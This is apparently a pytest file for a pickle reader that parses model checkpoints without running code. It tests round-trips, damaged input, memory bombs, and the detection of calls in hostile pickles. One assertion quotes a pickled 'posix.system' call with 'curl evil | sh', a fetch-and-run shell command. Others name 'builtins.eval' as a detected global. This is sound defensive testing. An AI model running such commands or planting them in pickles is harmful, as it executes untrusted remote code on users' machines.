"""`formats/pickle`: every pickle of plain data reads as itself, and no pickle runs anything."""

from __future__ import annotations

import argparse
import collections
import contextlib
import copy
import math
import mmap
import pickle
import pickletools
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from paramtool.errors import FormatError, ParamtoolError, UnsafeError
from paramtool.formats.pickle import opcodes
from paramtool.formats.pickle.read import load
from paramtool.formats.pickle.values import Global, Instance, PickleLimits, Result, Use, preview
from tests.examples import examples
from tests.hostile import makers_pickle
from tests.hostile.makers_pickle import CALLERS, MAKERS, PROTO, text
from tests.patience import calls

PROTOCOLS = range(6)
NO_CONSTRUCTORS: Mapping[str, Callable[..., object]] = {}


def run(data: bytes, start: int = 0, **options: object) -> Result:
    constructors = options.pop("constructors", NO_CONSTRUCTORS)
    persistent = options.pop("persistent", lambda pid: ("pid", pid))
    return load(data, start, "a.pt", constructors, persistent=persistent, **options)  # type: ignore[arg-type]


def plain(value: object) -> object:
    """The Python value that instances of sets, bytearrays and dicts stand for."""
    if isinstance(value, Instance):
        if value.path == "builtins.set":
            return set(value.sequence or ())
        if value.path == "builtins.frozenset":
            return frozenset(value.sequence or ())
        assert value.path == "collections.OrderedDict"
        return collections.OrderedDict(plain(value.mapping))  # type: ignore[call-overload]
    if isinstance(value, dict):
        return {key: plain(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(map(plain, value))
    return value


atoms = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text() | st.binary(max_size=300)
words = st.integers(-(1 << 63), (1 << 64) - 1)
keys = st.text() | words | st.booleans() | st.tuples(st.text(), words)
values = st.recursive(
    atoms | st.sets(st.text()) | st.frozensets(st.integers()) | st.text(st.characters(codec=None)),
    lambda inner: (
        st.lists(inner)
        | st.lists(inner).map(tuple)
        | st.dictionaries(keys, inner)
        | st.dictionaries(keys, inner).map(collections.OrderedDict)
    ),
    max_leaves=20,
)


@pytest.mark.sample(2)
@pytest.mark.parametrize("protocol", PROTOCOLS)
@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=values)
def test_plain_data_reads_as_itself(protocol: int, value: object) -> None:
    """For every protocol, load after dumps is the identity, and nothing in it is unknown."""
    data = pickle.dumps(value, protocol)
    result = run(data)
    assert plain(result.value) == value
    assert repr(plain(result.value)) == repr(value) or isinstance(value, (set, frozenset, list, tuple, dict))
    assert result.stop == len(data)
    assert result.uses == ()


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_sharing_is_kept(protocol: int) -> None:
    """What was one object before is one object after; cycles are fine."""
    inner: list[object] = []
    inner.append(inner)
    first, second = run(pickle.dumps([inner, inner], protocol)).value  # type: ignore[misc]  # a list of two
    assert first is second is first[0]


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_special_floats_are_kept(protocol: int) -> None:
    """Infinities, NaN and the sign of zero."""
    found = run(pickle.dumps([math.inf, -math.inf, math.nan, -0.0], protocol)).value
    assert repr(found) == "[inf, -inf, nan, -0.0]"


def everything() -> object:
    """A value whose pickles use most opcodes."""
    small = [
        None,
        True,
        0,
        300,
        -70_000,
        1 << 70,
        1 << 3000,
        1.5,
        "é",
        "x" * 300,
        b"\xff",
        b"y" * 300,
        (),
        (1,),
    ]
    spaces = argparse.Namespace(a=1, b=collections.OrderedDict(x={1, 2}, y=frozenset({3})))
    return [*small, (1, 2), (1, 2, 3), (1, 2, 3, 4), {"k": [bytearray(b"z"), complex(1, 2)]}, spaces, small]


@pytest.mark.sample(3)
@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_truncation_at_every_byte_is_a_format_error(protocol: int) -> None:
    """A cut pickle never looks whole and never crashes."""
    data = pickle.dumps(everything(), protocol)
    for stop in range(len(data)):
        with pytest.raises(FormatError):
            run(data[:stop])


@pytest.mark.sample(3)
@pytest.mark.parametrize("protocol", PROTOCOLS)
@settings(max_examples=examples(400), deadline=None)
@given(data=st.data())
def test_changed_bytes_raise_only_our_errors(protocol: int, data: st.DataObject) -> None:
    """Whatever a few bytes are changed to, there is a value or a ParamtoolError."""
    content = bytearray(pickle.dumps(everything(), protocol))
    for _ in range(data.draw(st.integers(1, 5))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    try:
        run(bytes(content))
    except ParamtoolError as error:
        assert str(error).startswith("a.pt: pickle byte ")


OPCODES = b"".join(opcode.code.encode("latin-1") for opcode in pickletools.opcodes)


@settings(max_examples=examples(1000), deadline=None)
@given(st.lists(st.sampled_from([bytes([c]) for c in OPCODES] + [b"\0", b"1\n", b"a\n", b"]q\0", b"}q\1", b"ca\nb\n"])))
def test_random_programs_raise_only_our_errors(pieces: list[bytes]) -> None:
    """Opcodes in any order give a value or a ParamtoolError."""
    with contextlib.suppress(ParamtoolError):
        run(b"".join(pieces) + b".")


def test_every_opcode_is_handled() -> None:
    """The table has an entry for each opcode that CPython knows, and for no other."""
    handled = {code for code in range(256) if opcodes.HANDLERS[code] is not opcodes.unknown_opcode} | {ord(".")}
    assert handled == set(OPCODES)


SLOW = {"memo_bomb", "object_bomb"}
"""Tens of millions of opcodes; run with smaller limits instead."""


@pytest.mark.sample(2)
@pytest.mark.parametrize("name", [name for name in MAKERS if name not in SLOW])
def test_a_hostile_pickle_is_refused_soon(name: str) -> None:
    """Each maker's pickle raises exactly its class, after work that goes with its size."""
    make, kind = MAKERS[name]
    data = make()

    def refuse() -> None:
        with pytest.raises(kind, match=r"^a\.pt: pickle byte \d+: found .*, expected ") as caught:
            run(data)
        assert type(caught.value) is kind

    assert calls(refuse) < 100_000 + 20 * len(data), "a bound against quadratic work"


@pytest.mark.parametrize("make", [makers_pickle.memo_bomb, makers_pickle.object_bomb])
def test_a_memory_bomb_is_refused(make: Callable[[int], bytes]) -> None:
    """The limits on the memo and on objects hold while the pickle runs, not only at its end."""
    with pytest.raises(UnsafeError, match="expected at most 100,000"):
        run(make(300_000), limits=PickleLimits(max_memo=100_000, max_objects=100_000))


@pytest.mark.sample(7)
@pytest.mark.parametrize("name", CALLERS)
def test_a_call_is_shown_and_never_run(name: str) -> None:
    """The name is kept as called, with a short printable preview of its arguments."""
    make, path = CALLERS[name]
    use = {use.path: use for use in run(make()).uses}[path]
    assert use.called
    assert len(use.arguments) <= 80
    assert use.arguments.isprintable()


def test_every_maker_is_registered() -> None:
    """A maker that is in no registry would never be run."""
    own = {n for n, v in vars(makers_pickle).items() if callable(v) and v.__module__ == makers_pickle.__name__}
    assert {n for n in own if n[0] != "_"} - {"text"} == set(MAKERS) | set(CALLERS)


def test_the_preview_of_a_call_holds_its_arguments() -> None:
    """People should see what would have been run."""
    assert run(makers_pickle.calls_system()).uses == (Use("posix.system", True, "('curl evil | sh',)"),)


def test_a_chain_of_calls_keeps_short_names() -> None:
    """The result of an unknown call is told as `path()`, however long the chain is."""
    assert [use.path for use in run(makers_pickle.call_chain()).uses] == ["a.b", "a.b()"]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "pickle byte 0: found the end of the data"),
        (b"\xffN.", "pickle byte 0: found the opcode 0xff"),
        (b"\x80\x06.", "pickle byte 0: found protocol 6, expected 0 to 5"),
        (b"N0R.", "pickle byte 2: found an empty stack"),
        (b".", "found an empty stack"),
        (b"N(R.", "found an empty stack"),
        (b"Nt.", "pickle byte 1: found no mark"),
        (b"h\x07.", "pickle byte 0: found memo key 7"),
        (b"g7\n.", "found memo key 7"),
        (b"Np-1\n.", "found a memo key out of range"),
        (b"Np99999999999\n.", "found a memo key out of range"),
        (b"h", "found the end of the data"),
        (b"I12x\n.", "found the text 12x, expected a whole number"),
        (b"F1,5\n.", "found the text 1,5, expected a number"),
        (b"Sx\n.", "found a string without quotes"),
        (b"S'\\q'\n.", "found a string with an unknown escape"),
        (b"V\\u12\n.", "found text that cannot be decoded"),
        (b"X\x01\x00\x00\x00\xff.", "found text that cannot be decoded"),
        (b"P1\n.", "found a persistent id written as text"),
        (b"\x97.", "found a buffer outside the pickle"),
        (b"NN\x93.", "found a global named by something else than text"),
        (b"c" + b"m" * 5000 + b"\nx\n.", "found a line of more than 4,096 bytes"),
        (b"NNR.", "found arguments of type NoneType, expected a tuple"),
        (b"N)R.", "found a call of a NoneType, expected a global"),
        (b"K\x01)R.", "found a call of a int"),
        (b"(o.", "found an object without a class"),
        (b"ca\nb\n)N\x92.", "found invalid keyword arguments"),
        (b"NNNs.", "found items for a NoneType, expected a dict"),
        (b"NNa.", "found items for a NoneType, expected a list"),
        (b"}(Nu.", "found a key without a value"),
        (b"}]Ns.", "found a list as a dict key"),
        (b"})]\x85Ns.", "found a key without a value|found items for a tuple"),
        (b"}]\x85Ns.", "found a tuple as a dict key"),
        (b"})\x85\x85\x85Ns.", "found a dict key of nested tuples"),
        (b"}L99999999999999999999L\nNs.", "found a dict key of more than 64 bits"),
        (b"}}b.", "found attributes for a dict, expected an object"),
        (b"c_codecs\nencode\n)R.", "found an unusual call of _codecs.encode"),
        (b"ccopy_reg\n_reconstructor\n)R.", "found 0 arguments of copyreg._reconstructor"),
        (b"ccopy_reg\n__newobj__\n)R.", "found no arguments of copyreg.__newobj__"),
        (b"ccollections\nOrderedDict\n]Na\x85R.", "found an item that is not a pair"),
    ],
)
def test_damage_is_told_with_its_place(data: bytes, message: str) -> None:
    """The byte, what was found and what was expected."""
    with pytest.raises(FormatError, match=message):
        run(data)


def test_stacked_pickles_follow_each_other() -> None:
    """`stop` of one is `start` of the next, as in torch files before 1.6; positions go on."""
    data = pickle.dumps(1, 2) + pickle.dumps([2], 2) + b"\x80\x02?."
    first = run(data)
    second = run(data, first.stop)
    assert (first.value, second.value) == (1, [2])
    with pytest.raises(FormatError, match=f"pickle byte {second.stop + 2}: found the opcode 0x3f"):
        run(data, second.stop)


def test_a_mapped_file_reads_like_bytes(tmp_path: Path) -> None:
    """`mmap` needs no copy of the file."""
    path = tmp_path / "a.pkl"
    path.write_bytes(pickle.dumps(everything(), 2))
    with path.open("rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as data:
        found = load(data, 0, "a.pt", {}, persistent=copy.copy)
    assert found.stop == path.stat().st_size


def test_a_python_2_string_is_text() -> None:
    """UTF-8 if it is, else Latin-1, in each of its three forms."""
    assert run(b"(S'\\xc3\\xa9'\nS'\\xe9\\\\'\nU\x02\xc3\xa9T\x01\x00\x00\x00\xe9t.").value == (
        "é",
        "é\\",
        "é",
        "é",
    )


def test_a_namespace_is_kept_and_named() -> None:
    """An object of a class that only holds data becomes an instance with its state; its name is no surprise."""
    for protocol in PROTOCOLS:
        result = run(pickle.dumps(argparse.Namespace(lr=0.1), protocol))
        assert isinstance(result.value, Instance)
        assert (result.value.path, result.value.called, result.value.state) == (
            "argparse.Namespace",
            False,
            {"lr": 0.1},
        )
        assert result.uses == ()


def test_old_names_are_told_as_new_ones() -> None:
    """`__builtin__` and `copy_reg` are those of Python 2."""
    assert run(b"c__builtin__\nset\n.").value == Global("builtins", "set")
    assert run(b"c__builtin__\neval\n.").uses == (Use("builtins.eval", False, ""),)


def test_a_known_name_may_be_mentioned_but_not_called() -> None:
    """torch.FloatStorage as an argument is fine; torch.FloatStorage() is not."""
    known = {"torch.FloatStorage"}
    assert run(b"ctorch\nFloatStorage\n.", known=known).uses == ()
    assert run(b"ctorch\nFloatStorage\n)R.", known=known).uses == (Use("torch.FloatStorage", True, "()"),)


def test_a_call_outweighs_a_mention_and_keeps_its_place() -> None:
    """One use a name, in order of first mention."""
    uses = run(b"(ca\nb\ncc\nd\nca\nb\n)Rt.").uses
    assert [(use.path, use.called) for use in uses] == [("a.b", True), ("c.d", False)]


def test_constructors_make_values_and_get_their_state() -> None:
    """REDUCE and NEWOBJ ask them, BUILD goes to `build`."""

    class Thing:
        state: object = None

        def __init__(self, *args: object) -> None:
            self.args = args

        def build(self, state: object) -> None:
            self.state = state

    for opcode in (b"R", b"\x81"):
        result = run(b"ca\nb\nK\x01\x85" + opcode + b"K\x02b.", constructors={"a.b": Thing})
        assert isinstance(result.value, Thing)
        assert (result.value.args, result.value.state) == ((1,), 2)
        assert result.uses == ()


def test_wrong_arguments_of_a_constructor_are_damage() -> None:
    """Our function's TypeError is the pickle's fault, its IndexError is no stack underflow."""
    makers: dict[str, Callable[..., object]] = {"a.b": lambda x: x + 1, "a.c": lambda x: x[5]}
    with pytest.raises(FormatError, match=r"pickle byte 6: found arguments that a\.b does not accept"):
        run(b"ca\nb\n)R.", constructors=makers)
    with pytest.raises(FormatError, match=r"arguments that a\.c does not accept \(tuple index out of range\)"):
        run(b"ca\nc\n)\x85R.", constructors=makers)


def test_an_error_of_a_constructor_passes() -> None:
    """A ParamtoolError says more than we could."""

    def refuse() -> None:
        raise UnsafeError("too big")

    with pytest.raises(UnsafeError, match=r"^too big$"):
        run(b"ca\nb\n)R.", constructors={"a.b": refuse})


def test_persistent_ids_are_resolved() -> None:
    """What `persistent` gives stands for the id."""
    assert run(PROTO + text("7") + b"Q.").value == ("pid", "7")


def test_a_second_state_is_merged() -> None:
    """Two dicts become one; anything else becomes a list."""
    merged = run(b"ca\nb\n)\x81}K\x01K\x02sb}K\x03K\x04sb.").value
    listed = run(b"ca\nb\n)\x81}bK\x03b.").value
    assert isinstance(merged, Instance)
    assert isinstance(listed, Instance)
    assert (merged.state, listed.state) == ({1: 2, 3: 4}, [{}, 3])


def test_a_set_is_an_instance_in_every_protocol() -> None:
    """Its items are in `sequence`, called or not."""
    for protocol in PROTOCOLS:
        found = run(pickle.dumps({5}, protocol)).value
        assert isinstance(found, Instance)
        assert (found.path, found.sequence, found.called) == ("builtins.set", [5], False)


def test_objects_may_be_keys() -> None:
    """Optimizers of old key their state by the parameter itself."""
    found = run(b"}ca\nb\n)\x81K\x01s.").value
    assert isinstance(found, dict)
    assert [type(key) for key in found] == [Instance]


def test_a_deep_value_is_read_and_freed() -> None:
    """Nesting below the limit is fine, for lists and for objects."""
    assert isinstance(run(b"]" * 500_000 + b"a" * 499_999 + b".").value, list)
    assert isinstance(run(b"ca\nb\nq\x000" + b"h\x00)\x81" * 200_000 + b"b" * 199_999 + b".").value, Instance)


def test_limits_are_those_given() -> None:
    """Each limit by its name."""
    many = b"(" + b"]q\x00" * 9 + b"t."
    for limits, message in [
        (PickleLimits(max_nbytes=5), "no end of the pickle, expected at most 5 bytes"),
        (PickleLimits(max_objects=5), "10 objects, expected at most 5"),
        (PickleLimits(max_memo=0), "1 memo entries, expected at most 0"),
        (PickleLimits(max_stack=0), "1 stack entries, expected at most 0"),
        (PickleLimits(max_int_nbytes=1), "a number of 2 bytes, expected at most 1"),
    ]:
        with pytest.raises(UnsafeError, match=message):
            run(many if limits.max_int_nbytes > 1 else b"\x8a\x02\xff\xff.", limits=limits)


@given(values)
def test_a_preview_is_short_and_printable(value: object) -> None:
    """80 characters at most, whatever the value."""
    found = preview(value)
    assert len(found) <= 80
    assert found.isprintable()


SAMPLES = Path(__file__).parents[3] / "shared" / "samples"
STACKED_MAGIC = bytes.fromhex("8a0a6cfc9c46f9206aa85019")


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the shared folder of real checkpoints is not here")
def test_real_stacked_pickles_are_read() -> None:
    """Magic, protocol, system, object and keys of each torch file before 1.6."""
    paths = [p for p in SAMPLES.iterdir() if p.is_file() and p.read_bytes()[2:14] == STACKED_MAGIC]
    assert len(paths) >= 4
    for path in paths:
        data, at, found = path.read_bytes(), 0, []
        for _ in range(5):
            result = run(data, at)
            found.append(result.value)
            at = result.stop
        assert found[1] == 1001
        assert all(isinstance(key, str) for key in found[4])  # type: ignore[attr-defined]  # a list of keys
